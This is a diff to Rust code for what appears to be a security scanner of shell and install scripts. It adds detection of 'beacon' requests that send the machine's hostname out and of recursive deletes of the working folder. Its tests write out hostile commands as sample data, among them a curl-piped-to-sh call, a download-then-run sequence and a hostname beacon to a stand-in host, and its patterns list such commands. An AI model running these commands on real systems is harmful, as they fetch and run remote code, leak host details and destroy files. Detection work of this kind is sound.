@@ -85,9 +85,13 @@ fn bare(command: &Command) -> Command {
         let skip = match name.as_str() {
             "cmd" => command.args.iter().position(|arg| matches!(arg.as_str(), "/c" | "/C" | "/k" | "/K")),
             "sudo" | "nohup" | "exec" | "time" | "start" | "setsid" | "doas" | "command" => {
-                let flags = command.args.iter().take_while(|arg| arg.starts_with(['-', '/']) && arg.len() < 4);
-                let titled = usize::from(name == "start" && command.args.first().is_some_and(String::is_empty));
-                Some(flags.count() + titled).filter(|&at| at < command.args.len()).map(|at| at.wrapping_sub(1))
+                let flags =
+                    command.args.iter().take_while(|arg| arg.starts_with(['-', '/']) && arg.len() < 4);
+                let titled =
+                    usize::from(name == "start" && command.args.first().is_some_and(String::is_empty));
+                Some(flags.count() + titled)
+                    .filter(|&at| at < command.args.len())
+                    .map(|at| at.wrapping_sub(1))
             }
             _ => None,
         };
@@ -124,19 +128,37 @@ fn loads(name: &str) -> bool {
 pub fn script(source: &str, index: &crate::model::LineIndex<'_>) -> (Vec<Fact>, u64) {
     let (mut out, mut count) = (Vec::new(), 0);
     let mut fetched: Vec<String> = Vec::new();
+    // Variables that hold what a command told of the machine: `H=$(hostname)`.
+    let mut told: Vec<String> = Vec::new();
     for (start, line) in lines(source) {
         let span = index.span(start, start + line.len());
         let found = facts(&line, &span);
         for command in commands(&line).iter().map(bare) {
             let alone = found.iter().any(|fact| fact.name == "download-and-run");
             if !alone && runs(&command, &fetched) {
-                let mut fact = Fact::new(FactKind::Shell, "download-and-run", span.clone()).value(line.as_str());
+                let mut fact =
+                    Fact::new(FactKind::Shell, "download-and-run", span.clone()).value(line.as_str());
                 fact.capability = Some(CapabilityKind::Net);
                 out.push(fact);
             }
             if downloads(&command) {
                 fetched.extend(command.outputs());
             }
+            if asks(&command) && command.args.iter().any(|arg| told.iter().any(|name| arg.contains(name))) {
+                let mut fact = Fact::new(FactKind::Shell, "beacon", span.clone()).value(line.as_str());
+                fact.capability = Some(CapabilityKind::Net);
+                out.push(fact);
+            }
+        }
+        if let Some((name, value)) = line.trim_start().split_once('=')
+            && !name.is_empty()
+            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+            && commands(value)
+                .iter()
+                .flat_map(|command| &command.substitutions)
+                .any(|inner| tells(inner) == Some(Tells::Host))
+        {
+            told.extend([format!("${name}"), format!("${{{name}}}")]);
         }
         out.extend(found);
         count += 1;
@@ -285,6 +307,16 @@ fn is_destructive(command: &Command) -> bool {
     }
 }
 
+/// Deletes all of the folder that it stands in: a build folder, or somebody's project.
+fn wipes(command: &Command) -> bool {
+    let here = |arg: &String| {
+        matches!(arg.trim_matches('"'), "*" | "." | "./" | "./*" | ".." | "../*" | "$PWD" | "$(pwd)")
+    };
+    base(&command.name) == "rm"
+        && command.args.iter().any(|arg| arg.starts_with('-') && arg.contains(['r', 'R']))
+        && command.args.iter().any(here)
+}
+
 fn persists(command: &Command) -> bool {
     let name = base(&command.name).to_ascii_lowercase();
     let args = command.args.join(" ");
@@ -377,9 +409,20 @@ fn scan(line: &str, span: &Span, layer: u8, depth: u8, out: &mut Vec<Fact>) {
         // Host, user and folder in a request, or in a name that is looked up.
         let tell = |inner: &str| tells(inner) == Some(Tells::Host);
         let variable = |arg: &String| {
-            ["$USER", "$HOSTNAME", "${USER}", "${HOSTNAME}", "%USERNAME%", "%COMPUTERNAME%", "$(pwd)", "$PWD", "$env:USERNAME", "$env:COMPUTERNAME"]
-                .iter()
-                .any(|name| arg.contains(name))
+            [
+                "$USER",
+                "$HOSTNAME",
+                "${USER}",
+                "${HOSTNAME}",
+                "%USERNAME%",
+                "%COMPUTERNAME%",
+                "$(pwd)",
+                "$PWD",
+                "$env:USERNAME",
+                "$env:COMPUTERNAME",
+            ]
+            .iter()
+            .any(|name| arg.contains(name))
         };
         if asks(command)
             && (command.substitutions.iter().any(|text| tell(text)) || command.args.iter().any(variable))
@@ -405,6 +448,7 @@ fn scan(line: &str, span: &Span, layer: u8, depth: u8, out: &mut Vec<Fact>) {
             (is_reverse_shell(command), "reverse-shell", CapabilityKind::Net),
             (persists(command), "persist", CapabilityKind::FsWrite),
             (is_destructive(command), "destructive", CapabilityKind::FsWrite),
+            (wipes(command), "wipe", CapabilityKind::FsWrite),
             (is_miner(command), "miner", CapabilityKind::Net),
         ] {
             if is {
@@ -582,7 +626,10 @@ mod tests {
             ),
             ("uname -m && curl -O https://a.invalid/list.txt", &["download"]),
             ("start /B node a.js", &[]),
-            ("node -e \"require('child_process').exec('curl https://a.invalid/x | sh')\"", &["download", "pipe-to-shell"]),
+            (
+                "node -e \"require('child_process').exec('curl https://a.invalid/x | sh')\"",
+                &["download", "pipe-to-shell"],
+            ),
             ("node-gyp rebuild || exit 0", &[]),
             ("husky install", &[]),
             ("rm -rf dist && tsc -p . && node scripts/build.js", &[]),
@@ -606,6 +653,9 @@ mod tests {
             (facts.iter().filter(|fact| fact.name == "download-and-run").count(), lines)
         };
         assert_eq!(found("curl https://a.invalid/t -o t\nchmod +x t\n./t\n"), (2, 3));
+        let beacon = "H=$(hostname)\ncurl https://a.invalid/?h=$H\n";
+        let (facts, _) = script(beacon, &crate::model::LineIndex::new("a.sh", beacon));
+        assert!(facts.iter().any(|fact| fact.name == "beacon" && fact.span.line == 2));
         assert_eq!(found("curl https://a.invalid/t.json -o t.json\ncat t.json\n"), (0, 2));
     }
 
